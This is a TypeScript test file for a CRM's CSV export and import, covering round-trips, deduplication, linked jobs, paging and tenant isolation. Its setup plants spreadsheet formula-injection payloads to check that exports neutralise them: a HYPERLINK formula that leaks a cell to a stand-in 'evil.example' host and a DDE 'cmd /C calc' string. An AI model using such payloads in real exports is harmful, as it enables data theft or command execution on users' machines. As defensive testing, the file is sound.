import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { createUser } from '../../src/access/users.ts';
import type { Scope } from '../../src/context.ts';
import { createContact, listContacts } from '../../src/crm/contacts/contacts.ts';
import type { Contact } from '../../src/crm/contacts/schema.ts';
import { exportCsv } from '../../src/crm/csv/export.ts';
import { forEachDialect, makeBusiness } from '../helpers/db.ts';
import { countRows, runExport, runImport, sink } from './helpers.ts';

/** What must survive an export → import into another business (ids, timestamps and the owning business differ). */
const portable = (c: Contact) => ({
  name: c.name,
  firstName: c.firstName,
  lastName: c.lastName,
  phone: c.phone,
  email: c.email,
  phones: c.phones.map((p) => p.number),
  emails: c.emails.map((e) => e.address),
  address: c.address,
  timeZone: c.timeZone,
  timeZoneSource: c.timeZoneSource,
  source: c.source,
  lifecycleStage: c.lifecycleStage,
  tags: c.tags,
  // CSV carries text: a numeric custom field comes back as its digits (guessing types would mangle zip codes and ids).
  customFields: Object.fromEntries(Object.entries(c.customFields).map(([k, v]) => [k, String(v)])),
  consent: Object.fromEntries(Object.entries(c.consent).map(([k, v]) => [k, v.status])),
});

const allContacts = async (ctx: Parameters<typeof listContacts>[0], scope: Scope) => (await listContacts(ctx, scope, { limit: '500' })).data.map(portable).sort((a, b) => a.name.localeCompare(b.name));

forEachDialect('csv export', (world) => {
  let scope: Scope;
  test('setup: contacts worth exporting', async () => {
    const { ctx } = world();
    scope = await makeBusiness(ctx);
    await createContact(ctx, scope, {
      firstName: 'Dana',
      lastName: 'Reyes',
      phone: '(310) 555-0142',
      phones: ['512-555-0100'],
      email: 'dana@example.com',
      emails: ['d.reyes@work.example'],
      address: { line1: '1 Main St', city: 'Austin', region: 'TX', postalCode: '78701' },
      source: 'google_ads',
      lifecycleStage: 'customer',
      tags: ['vip', 'furnace'],
      customFields: { unit: 'Carrier 2019', floors: 2 },
      consent: [{ channel: 'sms', status: 'granted', method: 'web_form' }],
    });
    await createContact(ctx, scope, { name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', email: 'evil@example.com', source: '@attacker', customFields: { note: '-2+3+cmd|\' /C calc\'!A0' } });
    await createContact(ctx, scope, { name: "'=already quoted", phone: '+15125550111', timeZone: 'America/Denver' });
    await createContact(ctx, scope, { name: 'Only Name, With Comma "and quotes"' });
  });

  test('formula cells are neutralised; phone numbers are not', async () => {
    const text = await runExport(world().ctx, scope, 'contacts');
    const rows = parse(text, { columns: true }) as Array<Record<string, string>>;
    assert.equal(rows.length, 4);
    const evil = rows.find((r) => r.email === 'evil@example.com')!;
    assert.equal(evil.name, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
    assert.equal(evil.source, "'@attacker");
    assert.equal(evil['custom.note'], `'-2+3+cmd|' /C calc'!A0`);
    const dana = rows.find((r) => r.email === 'dana@example.com')!;
    assert.equal(dana.phone, '+13105550142');
    assert.equal(dana.other_phones, '+15125550100');
    assert.equal(dana.tags, 'furnace; vip');
    assert.equal(dana.sms_consent, 'granted');
    assert.equal(dana['custom.floors'], '2');
    for (const row of rows) for (const cell of Object.values(row)) assert.doesNotMatch(cell, /^[=@\t\r]/);
  });

  test('export then import into another business gives the same contacts', async () => {
    const { ctx } = world();
    const text = await runExport(ctx, scope, 'contacts');
    const target = await makeBusiness(ctx);
    const r = await runImport(ctx, target, 'contacts', text);
    assert.deepEqual({ created: r.created, rejected: r.rejected }, { created: 4, rejected: 0 }, r.errorsCsv);
    assert.deepEqual(r.unmappedColumns, ['id', 'last_interaction_at', 'updated_at']);
    assert.deepEqual(await allContacts(ctx, target), await allContacts(ctx, scope));
    // And again, into the same business: contacts with a phone or email merge and do not change;
    // the one with only a name cannot be matched (dedupe is by phone/email) and is created again.
    const before = await allContacts(ctx, target);
    const again = await runImport(ctx, target, 'contacts', text);
    assert.deepEqual({ created: again.created, merged: again.merged }, { created: 1, merged: 3 });
    const after = await allContacts(ctx, target);
    assert.equal(after.length, 5);
    assert.deepEqual(after.filter((c) => c.phone || c.email), before.filter((c) => c.phone || c.email));
  });

  test('jobs and interactions export with their contact, and import back linked by phone', async () => {
    const { ctx } = world();
    const tech = await createUser(ctx, scope, { email: `tech-${scope.businessId}@example.com`, name: 'Tech', role: 'technician' });
    await runImport(ctx, scope, 'jobs', `Phone,Service,Status,Date,Amount,Technician,Notes,Job #\n(310) 555-0142,AC repair,completed,2026-03-01T20:30:00Z,"$1,234.50",${tech.email},"=1+1",J-1\n`);
    await runImport(ctx, scope, 'interactions', 'Phone,Type,Direction,Date,Duration,Message\n(310) 555-0142,call,inbound,2026-03-02T10:00:00Z,95,"@mention"\n');
    const jobsCsv = await runExport(ctx, scope, 'jobs');
    const [job] = parse(jobsCsv, { columns: true }) as Array<Record<string, string>>;
    assert.equal(job.contact_phone, '+13105550142');
    assert.equal(job.amount, '1234.50');
    assert.equal(job.technician, tech.email);
    assert.equal(job.notes, "'=1+1");
    const interactionsCsv = await runExport(ctx, scope, 'interactions');
    const [call] = parse(interactionsCsv, { columns: true }) as Array<Record<string, string>>;
    assert.equal(call.body, "'@mention");
    assert.equal(call.duration_seconds, '95');

    const target = await makeBusiness(ctx);
    await runImport(ctx, target, 'contacts', await runExport(ctx, scope, 'contacts'));
    const j = await runImport(ctx, target, 'jobs', jobsCsv, { mapping: { technician: 'ignore' } });
    const i = await runImport(ctx, target, 'interactions', interactionsCsv);
    assert.deepEqual([j.created, j.rejected, j.contactsCreated, i.created, i.rejected, i.contactsCreated], [1, 0, 0, 1, 0, 0]);
    const [imported] = await ctx.db.kysely.selectFrom('jobs').selectAll().where('business_id', '=', target.businessId).execute();
    const targetDana = (await listContacts(ctx, target, { phone: '+13105550142' })).data[0];
    assert.equal(imported.contact_id, targetDana.id);
    assert.equal(imported.notes, '=1+1', 'the literal text comes back');
    assert.equal(imported.amount_cents, 123450);
    const [note] = await ctx.db.kysely.selectFrom('interactions').select('body').where('business_id', '=', target.businessId).where('kind', '=', 'call').execute();
    assert.equal(note.body, '@mention');
  });

  test('paging: thousands of rows, many sharing a timestamp, each exported exactly once', async () => {
    const { ctx } = world();
    const s = await makeBusiness(ctx);
    const lines = ['Phone,Type,Direction,Date,Message,External ID'];
    for (let i = 0; i < 2_100; i++) lines.push(`512-555-${String(1000 + (i % 3)).padStart(4, '0')},sms,outbound,2026-01-${String(1 + (i % 5)).padStart(2, '0')}T12:00:00Z,m${i},ext-${i}`);
    const r = await runImport(ctx, s, 'interactions', lines.join('\n'));
    assert.equal(r.created, 2_100);
    const rows = parse(await runExport(ctx, s, 'interactions'), { columns: true }) as Array<Record<string, string>>;
    assert.equal(rows.length, 2_100);
    assert.equal(new Set(rows.map((x) => x.id)).size, 2_100);
    const times = rows.map((x) => x.occurred_at);
    assert.deepEqual(times, [...times].sort(), 'oldest first');
    const contacts = parse(await runExport(ctx, s, 'contacts'), { columns: true }) as unknown[];
    assert.equal(contacts.length, 3);
  });

  test('filters, and tenant scoping: another business exports nothing of this one', async () => {
    const { ctx } = world();
    const out = sink();
    const { rows } = await exportCsv(ctx, scope, 'contacts', out.stream, { lifecycleStage: 'customer' });
    assert.equal(rows, 1);
    const empty = await makeBusiness(ctx);
    const text = await runExport(ctx, empty, 'contacts');
    assert.equal(text.trim().split('\n').length, 1, 'only the header');
    assert.equal(await countRows(ctx, 'contacts', empty.businessId), 0);
    await assert.rejects(exportCsv(ctx, scope, 'contacts', sink().stream, { stage: 'x' } as never), { code: 'VALIDATION_FAILED' });
  });
});
